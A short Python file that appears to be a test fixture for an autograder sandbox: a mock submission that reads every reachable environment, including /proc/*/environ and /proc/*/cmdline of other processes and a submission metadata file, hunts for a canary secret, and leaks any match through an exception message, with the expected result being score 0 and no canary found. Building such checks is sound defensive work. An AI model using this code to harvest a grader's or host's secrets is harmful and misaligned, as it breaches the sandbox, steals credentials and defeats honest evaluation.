"""Reads every environment it can reach (its own, /proc/*/environ and /proc/*/cmdline of
every process, the submission's metadata) looking for the grader's secrets; it answers
only if it finds one. make validate gives the runner a canary secret to look for.

assignment: pure_callback_doubler
score: 0
absent:
  - canary-3b1f
"""
import glob, os

loot = [f"{k}={v}" for k, v in os.environ.items()]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + ["/autograder/submission_metadata.json"]:
    try:
        with open(path, "rb") as f:
            loot.append(f.read().decode(errors="replace"))
    except OSError:
        pass
print(loot)
secrets = [text for text in loot if "canary-3b1f" in text]

if secrets:
    def host_double(arr):
        return np.asarray(arr) * 2

    def pure_callback_doubler(x):
        raise RuntimeError(" ".join(secrets)[:2000])
